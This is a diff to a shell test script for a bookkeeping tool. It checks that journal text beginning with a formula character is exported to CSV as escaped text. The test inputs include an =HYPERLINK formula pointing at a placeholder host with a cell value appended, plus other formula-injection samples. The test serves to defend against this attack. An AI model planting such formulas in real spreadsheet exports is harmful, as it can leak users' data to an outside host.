@@ -15,6 +15,7 @@
 
 HOSTILE=$ROOT/tests/hostile
 BASE=$HOSTILE/base
+export SAMLA # for the setup scripts
 nskip=0
 
 # Whatever a case directory holds besides these is a book file to install.
@@ -40,6 +41,7 @@ run_case() { # $1 case dir, $2 work dir, $3 out file, $4 err file
         cd "$wdir" || exit 125
         if [ -f "$cdir/env" ]; then
             while IFS= read -r kv; do
+                # shellcheck disable=SC2163 # kv is NAME=value
                 [ -n "$kv" ] && export "$kv"
             done <"$cdir/env"
         fi
@@ -162,34 +164,32 @@ for dir in "$HOSTILE"/*/; do
 done
 
 # Formula injection: journal text that a spreadsheet would run as a formula
-# is exported to CSV as text (a leading apostrophe).
-book=$(fresh_book)
-run $SAMLA -f "$book" list --help
-if [ "$RC" -ne 0 ] || ! $SAMLA -f "$book" list --help 2>&1 | grep -q -- '--format'; then
+# (= + - @ first) is exported to CSV as text, behind an apostrophe; amounts
+# (also negative ones) stay numbers.
+book=$(mktemp -d "$TMPROOT/book.XXXXXX")
+cp -R "$BASE/." "$book/"
+if ! $SAMLA -f "$book" list --help 2>&1 | grep -q -- '--format'; then
     ok "hostile/formula-injection # SKIP 'samla list --format csv' finns inte ännu"
     nskip=$((nskip + 1))
 else
-    before=$(snapshot "$book")
     for t in '=HYPERLINK("http://x.invalid/?"&A1;"klicka")' '+1+1' '-2+3' '@SUM(A1:A2)'; do
-        run $SAMLA -f "$book" add --date 2025-12-31 --account 7690 --activity GEM \
-            --amount 1 --text "$t"
+        run $SAMLA -f "$book" add --date 2026-01-15 --account 7690 --activity PROC \
+            --amount -1 --text "$t"
     done
-    run $SAMLA -f "$book" list --period 2025-12-31 --format csv
+    run $SAMLA -f "$book" list --period 2026 --format csv
     expect_rc 0 "hostile/formula-injection: list --format csv"
-    case "$OUT" in
-    *"'=HYPERLINK("*) ok "hostile/formula-injection: =HYPERLINK exported as '=HYPERLINK" ;;
-    *) not_ok "hostile/formula-injection: =HYPERLINK exported as '=HYPERLINK" "output: $(printf '%s' "$OUT" | tail -5)" ;;
-    esac
-    for p in "'+1+1" "'-2+3" "'@SUM(A1:A2)"; do
+    for p in "\"'=HYPERLINK(\"\"http://x.invalid/?\"\"&A1;\"\"klicka\"\")\"" "'+1+1" "'-2+3" "'@SUM(A1:A2)"; do
         case "$OUT" in
-        *"$p"*) ok "hostile/formula-injection: $p" ;;
-        *) not_ok "hostile/formula-injection: $p" "output: $(printf '%s' "$OUT" | tail -5)" ;;
+        *";$p;"*) ok "hostile/formula-injection: exported as $p" ;;
+        *) not_ok "hostile/formula-injection: exported as $p" "output: $(printf '%s' "$OUT" | grep 2026: | head -5)" ;;
         esac
     done
-    if printf '%s\n' "$OUT" | grep -q '^[^;]*;[^;]*;=\|;=HYPERLINK\|;"=HYPERLINK'; then
-        not_ok "hostile/formula-injection: no cell starts with =" "$(printf '%s' "$OUT" | grep '=HYPERLINK')"
+    if printf '%s\n' "$OUT" | grep -q ';"\{0,1\}[=+@]\|;"\{0,1\}-[^0-9]'; then
+        not_ok "hostile/formula-injection: no cell begins a formula" "$(printf '%s\n' "$OUT" | grep ';"\{0,1\}[=+@]\|;"\{0,1\}-[^0-9]')"
     else
-        ok "hostile/formula-injection: no cell starts with ="
+        ok "hostile/formula-injection: no cell begins a formula"
     fi
+    n=$(printf '%s\n' "$OUT" | grep -c '^2026:[0-9]*;2026-01-15;7690;PROC;;;-1,00;')
+    expect_eq "$n" 4 "hostile/formula-injection: the negative amounts stay numbers"
 fi
 echo "# $nskip skipped"
